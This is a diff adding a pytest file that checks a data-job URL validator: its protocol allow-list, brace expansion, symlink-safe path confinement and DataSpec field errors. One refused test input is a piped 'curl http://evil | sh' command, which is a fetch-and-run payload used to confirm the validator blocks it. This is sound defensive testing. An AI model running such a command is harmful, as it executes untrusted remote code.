@@ -1,0 +1,115 @@
+"""The protocol allow-list, brace expansion and the DataSpec checks built on them."""
+
+from __future__ import annotations
+
+import os
+
+import pytest
+from pydantic import ValidationError
+
+from jobs.data.urls import check_url, expand_braces, missing_urls
+from jobs.spec.data import DataSpec
+
+
+@pytest.mark.parametrize(
+    ("url", "reason"),
+    [
+        ("pipe:curl http://evil | sh", "pipe:"),
+        ("PIPE:cat x", "pipe:"),
+        ("ftp://host/data.tar", "protocol 'ftp' is not allowed"),
+        ("http://host/data.tar", "protocol 'http' is not allowed"),
+        ("hdfs://nn/data.tar", "protocol 'hdfs' is not allowed"),
+        ("simplecache::s3://b/x.tar", "chained"),
+        ("s3://", "expected s3://"),
+        ("", "empty URL"),
+        ("   ", "empty URL"),
+    ],
+)
+def test_refused_urls_name_the_reason(url, reason):
+    with pytest.raises(ValueError) as caught:
+        check_url(url)
+    assert reason in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["s3://bucket/prefix/x.tar", "gs://b/x", "gcs://b/x", "https://host/x.tar", "memory://x/y"],
+)
+def test_allowed_remote_urls_pass_unchanged(url):
+    assert check_url(f"  {url} ") == url
+
+
+def test_protocols_can_be_narrowed():
+    with pytest.raises(ValueError, match="allowed: file"):
+        check_url("s3://b/x", allowed_protocols={"file"})
+
+
+def test_local_paths_are_normalised(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    assert check_url("data/x.tar") == str(tmp_path / "data" / "x.tar")
+    assert check_url(f"file://{tmp_path}/a/../b.tar") == str(tmp_path / "b.tar")
+
+
+def test_allowed_roots_confine_local_paths_even_through_symlinks(tmp_path):
+    inside, outside = tmp_path / "inside", tmp_path / "outside"
+    inside.mkdir()
+    outside.mkdir()
+    os.symlink(outside, inside / "escape")
+    roots = [str(inside)]
+    assert check_url(str(inside / "x.tar"), allowed_roots=roots) == str(inside / "x.tar")
+    for url in (str(outside / "x.tar"), str(inside / ".." / "outside"), str(inside / "escape")):
+        with pytest.raises(ValueError, match="outside the allowed roots"):
+            check_url(url, allowed_roots=roots)
+    # remote URLs are not subject to local roots
+    assert check_url("s3://b/x", allowed_roots=roots) == "s3://b/x"
+
+
+def test_expand_braces():
+    assert expand_braces("s3://b/train-{000..003}.tar") == [
+        f"s3://b/train-{i:03d}.tar" for i in range(4)
+    ]
+    assert expand_braces("x{8..10}") == ["x8", "x9", "x10"]
+    assert expand_braces("{a,b}-{0..1}") == ["a-0", "a-1", "b-0", "b-1"]
+    assert expand_braces("plain.tar") == ["plain.tar"]
+    for bad in ("x{1..0}", "x{1..3", "x}", "x{abc}"):
+        with pytest.raises(ValueError):
+            expand_braces(bad)
+
+
+def test_missing_urls_on_local_and_memory(tmp_path):
+    import fsspec
+
+    (tmp_path / "a.tar").write_bytes(b"x")
+    assert missing_urls([str(tmp_path / "a.tar"), str(tmp_path / "b.tar")]) == [
+        str(tmp_path / "b.tar")
+    ]
+    with fsspec.open("memory://urltest/a.tar", "wb") as handle:
+        handle.write(b"x")
+    assert missing_urls(["memory://urltest/a.tar", "memory://urltest/c.tar"]) == [
+        "memory://urltest/c.tar"
+    ]
+    assert missing_urls(["memory://nowhere/a.tar"]) == ["memory://nowhere/a.tar"]
+
+
+@pytest.mark.parametrize(
+    ("train", "location"),
+    [
+        ("pipe:cat shard.tar", ("train",)),
+        (["s3://b/ok.tar", "ftp://h/x.tar"], ("train",)),
+        ("s3://b/x-{3..1}.tar", ("train",)),
+    ],
+)
+def test_data_spec_refuses_bad_urls_with_the_field_path(train, location):
+    with pytest.raises(ValidationError) as caught:
+        DataSpec(train=train, num_classes=10)
+    assert caught.value.errors()[0]["loc"] == location
+
+
+def test_data_spec_checks_normalisation_against_channels():
+    DataSpec(train="d/", num_classes=3, channels=3, augment={"mean": [0.1, 0.2, 0.3]})
+    with pytest.raises(ValidationError, match="augment.mean has 2 values"):
+        DataSpec(train="d/", num_classes=3, channels=3, augment={"mean": [0.1, 0.2]})
+    with pytest.raises(ValidationError, match="std"):
+        DataSpec(train="d/", num_classes=3, augment={"std": [0.0]})
+    with pytest.raises(ValidationError, match="extra"):
+        DataSpec(train="d/", num_classes=3, shuffle=True)
